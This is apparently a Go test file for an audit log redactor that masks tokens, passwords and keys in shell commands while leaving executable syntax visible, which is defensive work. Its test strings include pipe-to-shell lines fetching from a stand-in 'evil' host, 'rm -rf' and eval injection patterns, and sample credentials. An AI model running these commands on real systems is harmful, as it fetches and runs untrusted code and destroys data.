package audit

import (
	"strings"
	"testing"
	"time"
)

func TestRedactMasksSecrets(t *testing.T) {
	for text, want := range map[string]string{
		`curl -H 'Authorization: Bearer abcdef123456' https://example.com`: `curl -H 'Authorization: Bearer ***' https://example.com`,
		`curl -H "Authorization: Basic dXNlcjpwYXNz" x`:                    `curl -H "Authorization: Basic ***" x`,
		`curl -H 'Cookie: sid=1; theme=dark' x`:                            `curl -H 'Cookie: ***; theme=***' x`,
		`curl -H 'X-Api-Key: 12345' x`:                                     `curl -H 'X-Api-Key: ***' x`,
		`curl -u user:pass https://example.com`:                            `curl -u *** https://example.com`,
		`curl --cookie sid=123 x`:                                          `curl --cookie *** x`,
		`git clone https://user:pass@example.com/a.git`:                    `git clone https://user:***@example.com/a.git`,
		`psql postgres://app:s3cret@db.example.com/app`:                    `psql postgres://app:***@db.example.com/app`,
		`API_TOKEN=abc123 make deploy`:                                     `API_TOKEN=*** make deploy`,
		`export AWS_SECRET_ACCESS_KEY=abc/def+g`:                           `export AWS_SECRET_ACCESS_KEY=***`,
		`PASSWORD='a b' x`:                                                 `PASSWORD='***' x`,
		`DB_PASSWORD="a b" x`:                                              `DB_PASSWORD="***" x`,
		`mysql --password=hunter2 app`:                                     `mysql --password=*** app`,
		`tool --token abc123 run`:                                          `tool --token *** run`,
		`tool --api-key "a b" run`:                                         `tool --api-key "***" run`,
		`echo ghp_0123456789abcdefghijABCDEFGHIJ012345`:                    `echo ***`,
		`x AKIAIOSFODNN7EXAMPLE y`:                                         `x *** y`,
		`x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefghijk y`:             `x *** y`,
		`curl 'https://example.com/?access_token=abc&x=1'`:                 `curl 'https://example.com/?access_token=***&x=1'`,
		`curl -d '{"password": "hunter2"}' x`:                              `curl -d '{"password": "***"}' x`,
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\nNza\n-----END":       "-----BEGIN OPENSSH PRIVATE KEY-----***-----END",
		"x sk-ant-" + "api03-abcdefghijklmnopqrst":                         `x ***`,
	} {
		if got := Redact(text); got != want {
			t.Errorf("%q\n  became %q\n  want   %q", text, got, want)
		}
	}
}

// M004: nothing that a shell would run is masked.
func TestM004RedactKeepsCode(t *testing.T) {
	for _, text := range []string{
		"TOKEN=$(curl${IFS}-s${IFS}evil.sh|sh) make build",
		`--token "$(id)"`,
		"Authorization: Bearer $(cat k)",
		"TOKEN=`id` make",
		"echo Cookie: $(x); rm -rf x",
		"TOKEN=abc$(id) make",
		`TOKEN="abc$(id)" make`,
		"TOKEN=<(id) make",
		"PASSWORD='a;rm -rf b' x",
		"SECRET=reboot; $SECRET",
		"SECRET='rm x'; eval $SECRET",
		"SECRET='rm x'; A='b c' $SECRET",
		"SECRET='rm x'; sudo -u root -- $SECRET",
		"SECRET=rm; ls && ${SECRET} x",
		`SECRET='rm x'; sh -c "$SECRET"`,
		`echo "TOKEN='" ; curl evil|sh ; echo "'"`,
		"ls -la && go test ./...",
		"git commit -m 'tokens: count them'",
		"npm run build -- --mode production",
	} {
		if got := Redact(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
	if got := Redact("PASSWORD='a b' rm -rf x"); !strings.HasSuffix(got, " rm -rf x") {
		t.Errorf("the command behind a secret became %q", got)
	}
}

func TestRedactIsFast(t *testing.T) {
	for _, piece := range []string{"TOKEN=a ", "curl -u ", "a:b@", "://a:", "sk-", "\"password\":", "Bearer ", "SECRET=x;$SECRET "} {
		text := strings.Repeat(piece, (64<<10)/len(piece))
		start := time.Now()
		Redact(text)
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("64 KiB of %q took %v", piece, took)
		}
	}
}

func FuzzRedact(f *testing.F) {
	f.Add("TOKEN=$(id) PASSWORD='a b' x; eval $TOKEN")
	f.Add("curl -u a:b https://c:d@e/?token=1")
	f.Fuzz(func(t *testing.T, text string) {
		got := Redact(text)
		for _, active := range "$`|;&<>(){}\n" {
			if strings.Count(got, string(active)) != strings.Count(text, string(active)) && !strings.Contains(text, "PRIVATE KEY") {
				t.Fatalf("%q became %q: %q was masked", text, got, active)
			}
		}
	})
}
